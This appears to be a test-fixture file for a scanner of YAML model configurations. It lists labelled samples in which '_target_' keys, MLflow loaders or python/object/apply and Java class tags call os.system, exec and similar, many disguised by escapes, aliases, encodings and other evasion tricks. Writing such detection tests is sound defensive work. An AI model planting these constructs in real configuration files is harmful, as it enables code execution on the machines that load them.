# SPDX-License-Identifier: Apache-2.0
"""Samples of YAML that names code: about, verdict, rules, bytes."""

TARGET, TAG = "config.target", "yaml.tag"
SUSPECT, UNKNOWN = "yaml.tag.suspect", "config.target.unknown"

HONEST = """\
# a model of NeMo
name: &name "QuartzNet"
model:
  sample_rate: 16000
  labels: [" ", "a", 'b', "c'"]
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    normalize: "per_feature"
  notes: |
    _target_: os.system is not a key here, and don't look
    for one: it's text
  optim:
    {_target_: torch.optim.Adam, lr: 0.1, betas: [0.9, 0.98]}
"""
MLMODEL = """\
artifact_path: model
flavors:
  python_function:
    env: conda.yaml
    loader_module: %s
    model_path: model.pkl
    python_version: 3.8.10
model_uuid: 0123456789abcdef
utc_time_created: '2024-01-01 00:00:00.000000'
"""


def target(about, text, verdict="malicious", rules=(TARGET,)):
    return (about, verdict, list(rules),
            text if isinstance(text, bytes) else text.encode())


SAMPLES = [
    target("an honest NeMo configuration", HONEST, "clean", ()),
    target("MLflow's own loader", MLMODEL % "mlflow.sklearn", "clean", ()),
    target("MLflow with a loader beside the model", MLMODEL % "my_loader",
           "suspicious", ["mlflow.loader"]),
    target("MLflow that imports os", MLMODEL % "os"),
    target("a target that runs commands",
           "a: 1\nb:\n  _target_: os.system\n  command: echo marker\n"),
    target("a target of the project's own",
           "b:\n  _target_: my_project.models.Net\n", "unknown", [UNKNOWN]),
    target("in flow style", "{a: {_target_: subprocess.run, args: [x]}}\n"),
    target("in JSON", '{"a": [{"_target_": "os.system"}]}\n'),
    target("in JSON without blanks", '{"a":{"_target_":"os.system"}}'),
    target("escaped", 'a:\n  "\\x5ftarget_": "os.sys\\u0074em"\n'),
    target("in single quotes", "a:\n  '_target_': 'builtins.exec'\n"),
    target("behind an anchor", "x: &f os.system\na:\n  _target_: *f\n"),
    target("the key an alias", "x: &k _target_\na:\n  *k : os.system\n"),
    target("with an explicit key", "? _target_\n: os.system\n"),
    target("on the next line", "a:\n  _target_:\n    os.system\n"),
    target("as a block scalar", "a:\n  _target_: >-\n    os.system\n"),
    target("in the second document", "a: 1\n---\n_target_: os.system\n"),
    target("behind a block scalar",
           "a:\n  t: |\n    it's {\n  b:\n    _target_: os.system\n"),
    target("behind a block scalar of a sequence",
           "a:\n- |\n  \"text\n- _target_: os.system\n"),
    target("behind one whose indent is given",
           "a:\n  t: |1\n    'x\n   y\n  _target_: os.system\n"),
    target("behind a comment with a quote",
           "# it's\na: 1 # \"\n_target_: os.system\n"),
    target("with a hash inside a word", "a: b#'c\n_target_: os.system\n"),
    target("with quotes inside words", "a: b'c \"d\n_target_: os.system\n"),
    target("in UTF-16", "_target_: os.system\n".encode("utf-16")),
    target("in UTF-16 without a mark",
           "_target_: os.system\n".encode("utf-16-be")),
    target("in UTF-32", "_target_: os.system\n".encode("utf-32")),
    target("with carriage returns", "a: |\r  x\r_target_: os.system\r"),
    target("by way of a package", "_target_: torch.hub.load\nrepo: x\n"),
    target("through another module", "_target_: nemo.utils.os.system\n"),
    target("put together of values",
           "f: os.system\nb:\n  _target_: ${f}\n"),
    target("put together, of what is not known",
           "f: my.Net\nb:\n  _target_: ${f}\n", "unknown", [UNKNOWN]),
    target("latent diffusion's target",
           "model:\n  target: os.system\n  params: {command: x}\n"),
    target("latent diffusion, honest",
           "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n"
           "  _target_: ldm.x\n", "clean", ()),
    target("a target in a build file", "target: os\nname: x\n", "clean", ()),
    target("a manual that shows one",
           "Use it so:\n\n_target_: os.system\n\nand never do\n",
           "clean", ()),
    target("a tag that calls", '!!python/object/apply:os.system ["x"]\n',
           rules=[TAG]),
    target("a tag in a mapping", "a: !!python/name:os.system\n", rules=[TAG]),
    target("a tag of a built-in function",
           "a: !!python/object/apply:eval ['1']\n", rules=[TAG]),
    target("a tag at length",
           "a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n",
           rules=[TAG]),
    target("a tag with a handle",
           "%TAG !p! tag:yaml.org,2002:python/object/\n---\n"
           "a: !p!apply:os.system [x]\n", rules=[TAG]),
    target("a tag spelled in numbers",
           "a: !!p%79thon/object/apply:os.system [x]\n", rules=[TAG]),
    target("a tag of a module", "a: !!python/module:mine\n", "suspicious",
           [SUSPECT]),
    target("a tag of data", "a: !!python/tuple [1, 2]\nb: 3\n", "clean", ()),
    target("a tag of a class of the project's own",
           "!!python/object:my.Config\na: 1\n", "unknown",
           ["yaml.tag.unknown"]),
    target("a tag of a namespace",
           "!!python/object:argparse.Namespace\na: 1\n", "clean", ()),
    target("a class of Java",
           "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
           "[[!!java.net.URL [\"http://x.invalid/\"]]]]\n", rules=[TAG]),
]
